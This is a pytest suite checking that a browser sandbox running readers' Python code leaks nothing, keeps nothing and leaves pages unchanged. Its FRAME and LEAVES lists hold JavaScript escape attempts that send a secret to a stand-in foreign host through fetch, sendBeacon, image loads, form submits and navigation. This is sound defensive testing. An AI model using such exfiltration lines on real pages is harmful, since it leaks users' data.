"""What readers run is locked in: nothing leaves, nothing is kept, no page changes."""

import json
import queue
import re
import socketserver
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from browser import find_firefox
from escapes import ENDS, HEAVY, TAMPERED, TRIED, program, programs

from conftest import Handler, Server
from nnbook.lab.exercises import EXERCISES

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.site

# In the page: its Python; what came out of the room; and what the site has stored.
HARNESS = """
const { dataset } = document.querySelector("script[data-runtime]");
const at = (file) => new URL(file, location.href).href;
const Channel = MessageChannel;
globalThis.MessageChannel = class extends Channel {
  constructor() {
    super();
    this.port1.addEventListener("message", ({ data }) => {
      came.messages += 1;
      came.longest = Math.max(came.longest, typeof data === "string" ? data.length : Infinity);
    });
  }
};
await (await caches.open("kept")).put(at("kept"), new Response("as it was"));
globalThis.came = { messages: 0, longest: 0 };
addEventListener("message", () => { came.longest = Infinity; });
const { default: open } = await import(at("_static/widgets/runtime.js"));
const python = open({
  address: (file) => at(`_static/widgets/${file}`),
  fingerprint: dataset.fingerprint,
  runtime: at("runtime/"),
});
globalThis.call = async (name, args, seconds = 60) => {
  Object.assign(came, { messages: 0, longest: 0 });
  try {
    return await python.call(name, args, () => null, { seconds });
  } catch (failure) {
    return { failure: failure.kind ?? String(failure), words: failure.message };
  }
};
globalThis.stored = async () => {
  const kept = {};
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      kept[`${name} ${request.url}`] = (await (await cache.match(request)).blob()).size;
    }
  }
  const files = [];
  for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
  return {
    kept, files, cookies: document.cookie,
    local: { ...localStorage }, session: { ...sessionStorage },
    bases: await indexedDB.databases(), locks: (await navigator.locks.query()).held,
    lasting: await navigator.storage.persisted(),
    text: document.querySelector("article").innerHTML, at: [location.href, document.title],
  };
};
"""
# Another page of the site.
NEIGHBOUR = """() => {
  globalThis.heard = [];
  new BroadcastChannel("book").onmessage = ({ data }) => heard.push(data);
  for (const kind of ["message", "storage"]) addEventListener(kind, () => heard.push(kind));
}"""
# In Firefox, which nobody drives: one program after another, and what came of each.
IN_TURNS = """
const tell = (found) => fetch("told", { method: "POST", body: JSON.stringify(found) });
const works = () => call("run_cells", { cells: ["6 * 7"] });
await works();
await tell({ stored: await globalThis.stored() });
for (const [name, args] of Object.entries(PROGRAMS)) {
  const first = await call("run_cells", args);
  await new Promise((resolve) => { setTimeout(resolve, 300); });
  const found = { name, first, came: { ...came } };
  found.second = await works();
  found.third = found.second.output ? null : await works();
  await tell({ ...found, stored: await globalThis.stored() });
}
"""
FIREFOX = """
user_pref("browser.aboutwelcome.enabled", false);
user_pref("browser.shell.checkDefaultBrowser", false);
user_pref("dom.serviceWorkers.enabled", false);
user_pref("datareporting.policy.dataSubmissionEnabled", false);
"""
# As if somebody had got hold of the frame that the threads are in.
FRAME = [
    *("top.location = `${FOREIGN}/?${SECRET}`", "parent.location = `${FOREIGN}/?${SECRET}`"),
    *("top.document.body.innerHTML = SECRET", "parent.document.body.innerHTML = SECRET"),
    *("localStorage.a = SECRET", "document.cookie = `a=${SECRET}`", "alert(SECRET)"),
    *("fetch(`${FOREIGN}/?${SECRET}`)", "navigator.sendBeacon(`${FOREIGN}/`, SECRET)"),
    *("open(`${FOREIGN}/?${SECRET}`)", "new Image().src = `${FOREIGN}/?${SECRET}`"),
    "document.body.append(Object.assign(document.createElement('iframe'), { src: `${FOREIGN}/` }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: `${SITE}/` }))",
    """document.head.append(Object.assign(document.createElement('link'),
      { rel: 'preload', as: 'fetch', href: `${FOREIGN}/` }))""",
    """document.head.append(Object.assign(document.createElement('link'),
      { rel: 'prefetch', href: `${FOREIGN}/` }))""",
    """const form = document.createElement('form');
       form.action = `${FOREIGN}/`;
       document.body.append(form);
       form.submit()""",
]
# These lead the frame itself away: a new one must come after each.
LEAVES = ["location = `${FOREIGN}/?${SECRET}`", "location = `${SITE}/index.html?${SECRET}`"]
PAGE = "framework.html"
MINUTE, SETTLED = 60_000, 300  # ms
# What Python sends for a call, and what the room lets through at most: see `guard.js`.
MESSAGES, LONGEST = 502, 200_000
# By where they run, and thus after which others.
IN_A_THREAD = [name for name in programs() if name.endswith("in a thread")]
KINDS = {
    "in Python's thread": [name for name in programs() if name not in IN_A_THREAD],
    "in a thread": IN_A_THREAD,
}
WORKS = {"output": "42\n", "error": None, "done": 1}
# A new Python is fetched and kept; all else stays.
UNMOVED = ("cookies", "neighbour", "pages", "foreign")
# After each a new Python must come, which takes seconds: on a push, half of them end one in
# Chromium, one of each kind in Firefox, and weekly the others.
ENDED_IN_CHROMIUM, ENDED_IN_FIREFOX = list(ENDS)[::2], ["flood of objects", "close()"]
# Some of those that get out of a room without a lock.
OUT = [
    *("fetch of a prototype", "XMLHttpRequest", "import()", "import in a blob", "importScripts"),
    *("open_url", "caches", "deleted caches", "IndexedDB", "private files", "BroadcastChannel"),
    *("locks", "pyodide_js, its store", "WebSocket", "EventSource", "WebTransport"),
]


class Foreign:
    """Another host: notes everybody who connects, or sends so much as a datagram."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        noted = self.heard

        class Note(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                found = self.request
                text = found[0] if isinstance(found, tuple) else found.recv(1000)
                noted.append(repr(text[:100]))

        self._tcp = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Note)
        self._udp = socketserver.ThreadingUDPServer(self._tcp.server_address, Note)
        for each in (self._tcp, self._udp):
            threading.Thread(target=each.serve_forever, daemon=True).start()
        self.address = "http://{}:{}".format(*self._tcp.server_address)

    def stop(self) -> None:
        for each in (self._tcp, self._udp):
            each.shutdown()
            each.server_close()


class Noting(Handler):
    """Notes what is asked for; gives Firefox its page, and takes what that tells."""

    asked: list[str]
    heard: list[str]
    told: "queue.Queue[Any]"
    locked = True
    script = ""

    def do_GET(self) -> None:  # noqa: N802 - its name there
        name = self.path.split("?")[0].split("/")[-1]
        self.asked.append(self.path)
        if name == "room.htm" and not self.locked:
            self._send(re.sub(r'<meta http-equiv[^>]*>|sandbox="[^"]*"', "", self._text(self.path)))
        elif name == "escapes.html":
            module = '<script type="module" src="escapes.js"></script></body>'
            self._send(self._text(f"/repo/{PAGE}").replace("</body>", module))
        elif name == "escapes.js":
            self._send(self.script, "text/javascript")
        else:
            super().do_GET()

    def do_POST(self) -> None:  # noqa: N802 - its name there
        found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.told.put({**found, "asked": list(self.asked), "heard": list(self.heard)})
        self.asked.clear()
        self.heard.clear()
        self._send("")

    def _text(self, path: str) -> str:
        return Path(self.translate_path(path)).read_text(encoding="utf-8")

    def _send(self, text: str, kind: str = "text/html") -> None:
        self.send_response(200)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        self.end_headers()
        self.wfile.write(text.encode())


class Place:
    """The site below ``/repo/`` and another host, and what arrives at them."""

    def __init__(self, site: Path, folder: Path, *, locked: bool = True) -> None:
        (folder / "repo").symlink_to(site)
        self.asked: list[str] = []
        self.told: queue.Queue[Any] = queue.Queue()
        self.foreign = Foreign()
        own = {"asked": self.asked, "told": self.told, "locked": locked}
        self.handler = type("Own", (Noting,), {**own, "heard": self.foreign.heard})
        self.server = Server(folder, self.handler, below="/repo")

    def cells(self, code: str) -> dict[str, Any]:
        """What `run_cells` is asked for."""
        return {"cells": [program(code, self.server.address, self.foreign.address)]}

    def stop(self) -> None:
        self.server.stop()
        self.foreign.stop()


class Opened:
    """A page of the site with its Python, and a neighbour that must not notice anything."""

    def __init__(self, browser: "Browser", place: Place) -> None:
        self.place = place
        self.context = browser.new_context(service_workers="block")
        self.answered: list[str] = []  # by whomever, as the browser itself tells
        self.context.on("response", lambda response: self.answered.append(response.url))
        self.neighbour = self.context.new_page()
        self.neighbour.goto(f"{place.server.address}/index.html")
        self.neighbour.evaluate(NEIGHBOUR)
        self.page = self.context.new_page()
        self.page.set_default_timeout(MINUTE)
        self.page.goto(f"{place.server.address}/{PAGE}")
        self.page.evaluate(f"async () => {{ {HARNESS} }}")

    def call(self, name: str, **args: Any) -> dict[str, Any]:
        """The answer, or what the page says instead."""
        return dict(self.page.evaluate("([name, args]) => call(name, args)", [name, args]))

    def program(self, code: str) -> dict[str, Any]:
        """The same of a reader's program, and time for what it has left behind."""
        said = self.call("run_cells", **self.place.cells(code))
        self.page.wait_for_timeout(SETTLED)
        return said

    def seen(self) -> dict[str, Any]:
        """All that a program must leave as it is."""
        left = [url for url in self.answered if url.startswith("http")]
        return {
            "stored": self.page.evaluate("globalThis.stored()"),
            "cookies": self.context.cookies(),
            "neighbour": self.neighbour.evaluate("[heard, document.body.innerHTML, location.href]"),
            "pages": len(self.context.pages),
            "foreign": list(self.place.foreign.heard),
            "asked": list(self.place.asked),
            "answered": left,
        }

    def works(self) -> dict[str, Any]:
        return self.call("run_cells", cells=["6 * 7"])

    def came(self) -> tuple[int, int]:
        """Of the last call: how many messages have reached the page, and the longest."""
        found = self.page.evaluate("came")
        return found["messages"], found["longest"]


def guilty(opened: Opened, names: list[str], run: Callable[[list[str]], None]) -> list[str]:
    """Which of these leave a trace: all are run, then one looks, and at halves if there is one."""
    before = opened.seen()
    run(names)
    opened.page.wait_for_timeout(SETTLED)
    if opened.seen() == before:
        return []
    half = len(names) // 2
    halves = (names[:half], names[half:]) if half else ()
    found = [name for part in halves for name in guilty(opened, part, run)]
    return found or names  # what is done twice may leave no second trace


@pytest.fixture(scope="module")
def place(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    found = Place(site, tmp_path_factory.mktemp("hosted"))
    yield found
    found.stop()


@pytest.fixture(scope="module")
def opened(browser: "Browser", place: Place) -> Iterator[Opened]:
    found = Opened(browser, place)
    yield found
    found.context.close()


@pytest.fixture
def before(opened: Opened) -> dict[str, Any]:
    """What there is before a program runs, in a Python that works."""
    while opened.works() != WORKS:  # what ended the one before was told to it
        pass
    return opened.seen()


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_gets_out(opened: Opened, before: dict[str, Any], kind: str) -> None:
    def run(names: list[str]) -> None:
        for name in names:
            said = opened.call("run_cells", **opened.place.cells(programs()[name]))
            assert said["output"] == TRIED, name
            messages, longest = opened.came()
            assert messages <= MESSAGES, name
            assert longest <= LONGEST, name

    assert (guilty(opened, KINDS[kind], run), opened.seen()) == ([], before)
    assert opened.works() == WORKS


@pytest.mark.parametrize(
    "name",
    [
        *ENDED_IN_CHROMIUM,
        *(
            pytest.param(name, marks=pytest.mark.slow)
            for name in ENDS
            if name not in ENDED_IN_CHROMIUM
        ),
    ],
)
def test_what_ends_a_program_is_said_and_the_next_one_runs(
    opened: Opened, before: dict[str, Any], name: str
) -> None:
    kind, code = ENDS[name]
    said = opened.program(code)
    messages, longest = opened.came()
    assert messages <= MESSAGES
    assert longest <= LONGEST
    if kind == "gone":  # which is seen when there is something to do again
        said = opened.works()
    assert said["failure"] == kind
    assert "再按一次，就从新的 Python 开始" in said["words"]
    assert opened.works() == WORKS
    after = opened.seen()
    assert {name: after[name] for name in UNMOVED} == {name: before[name] for name in UNMOVED}


@pytest.mark.parametrize("name", HEAVY)
def test_what_costs_much_leaves_the_page_alone(
    opened: Opened, before: dict[str, Any], name: str
) -> None:
    opened.program(HEAVY[name])
    assert opened.came()[0] <= MESSAGES
    assert opened.works() == WORKS
    assert opened.seen() == before


def test_the_next_check_knows_nothing_of_it(opened: Opened) -> None:
    """All of it at once: any of it that was left would change what the check says."""
    tampered = "\n".join(TAMPERED.values())
    solution = EXERCISES["eval"].solution
    opened.program(tampered)
    right = opened.call("check", identity="eval", code=solution)
    assert right["failure"] is None
    opened.call("check", identity="eval", code=opened.place.cells(tampered)["cells"][0])
    assert opened.call("check", identity="eval", code=solution) == right


@pytest.mark.parametrize("codes", [FRAME, *([code] for code in LEAVES)])
def test_the_room_itself_leads_nowhere(
    opened: Opened, before: dict[str, Any], codes: list[str]
) -> None:
    """As if somebody could run programs in the frame, and not in the threads alone."""
    addresses = [opened.place.server.address, opened.place.foreign.address, "secret"]

    def run(some: list[str]) -> None:
        for code in some:
            room = next(frame for frame in opened.page.frames if frame.url == "about:srcdoc")
            tried = f"([SITE, FOREIGN, SECRET]) => {{ try {{ {code} }} catch {{}} }}"
            room.evaluate(tried, addresses)

    assert (guilty(opened, codes, run), opened.seen()) == ([], before)


def test_without_the_lock_they_would_get_out(
    browser: "Browser", site: Path, tmp_path: Path
) -> None:
    place = Place(site, tmp_path, locked=False)
    opened = Opened(browser, place)
    assert opened.works() == WORKS
    out = []
    for name in OUT:
        before = opened.seen()
        opened.program(programs()[name])
        if opened.seen() != before:
            out.append(name)
    opened.context.close()
    place.stop()
    assert out == OUT


@pytest.mark.parametrize(
    "ends",
    [
        ENDED_IN_FIREFOX,
        pytest.param(
            [each for each in ENDS if each not in ENDED_IN_FIREFOX], marks=pytest.mark.slow
        ),
    ],
    ids=["on a push", "weekly"],
)
def test_nothing_gets_out_of_firefox(site: Path, tmp_path: Path, ends: list[str]) -> None:
    place = Place(site, tmp_path)
    tried = {**programs(), **HEAVY, **{name: ENDS[name][1] for name in ends}}
    cells = {name: place.cells(code) for name, code in tried.items()}
    place.handler.script = f"const PROGRAMS = {json.dumps(cells)};\n{HARNESS}\n{IN_TURNS}"  # type: ignore[attr-defined]
    (tmp_path / "profile").mkdir()
    (tmp_path / "profile/user.js").write_text(FIREFOX)
    address = f"{place.server.address}/escapes.html"
    command = [
        find_firefox(),
        "--headless",
        "--no-remote",
        "--profile",
        tmp_path / "profile",
        address,
    ]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    with subprocess.Popen(command, **quiet) as firefox:  # noqa: S603 - found or named
        try:
            begun = place.told.get(timeout=2 * MINUTE / 1000)
            told = {name: place.told.get(timeout=3 * MINUTE / 1000) for name in cells}
        finally:
            firefox.terminate()
    place.stop()
    for name, found in told.items():
        assert found["name"] == name
        assert found["heard"] == [], name
        assert found["came"]["messages"] <= MESSAGES, name
        assert found["came"]["longest"] <= LONGEST, name
        assert found["stored"] == begun["stored"], name
        kind = ENDS[name][0] if name in ENDS else None
        # After some of what ends Python in Chromium, such as `close()` by a timer or endless
        # microtasks, it still answers the next call here. Why has not been found out.
        if kind != "gone" or found["second"] != WORKS:
            said = {found[each].get("failure") for each in ("first", "second")}
            assert kind in {None, *said}, name
        assert WORKS in (found["second"], found["third"]), name
        own = ("/runtime/", "/_static/widgets/", "/told")
        strange = [
            path for path in found["asked"] if not path.removeprefix("/repo").startswith(own)
        ]
        assert strange == [], name
